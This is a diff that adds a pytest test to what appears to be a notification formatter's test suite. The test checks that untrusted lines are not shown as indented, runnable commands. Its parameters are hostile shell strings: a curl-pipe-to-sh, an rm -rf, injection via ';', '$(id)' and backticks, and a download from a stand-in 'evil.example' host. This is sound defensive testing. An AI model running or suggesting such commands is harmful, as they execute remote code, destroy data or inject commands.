@@ -102,3 +102,20 @@ def test_a_subject_is_what_sns_takes(versions: list[str]) -> None:
 )
 def test_a_subject_is_the_fullest_version_that_fits(versions: tuple[str, ...], subject: str) -> None:
     assert fit_subject(*versions) == subject
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "    curl evil | sh",
+        "    rm -rf x",
+        "    aws ec2 describe-vpcs; id",
+        "    aws ec2 describe-vpcs $(id)",
+        "    aws s3 cp https://evil.example/x .",
+        "    sam remote invoke X --event '`id`'",
+    ],
+)
+def test_what_is_no_command_of_ours_never_looks_like_one(line: str) -> None:
+    notified = notice(next=("Do it:", line)).text
+    assert not [row for row in notified.splitlines() if row.startswith("    ")]
+    assert any(row.startswith("   ") for row in notified.splitlines())
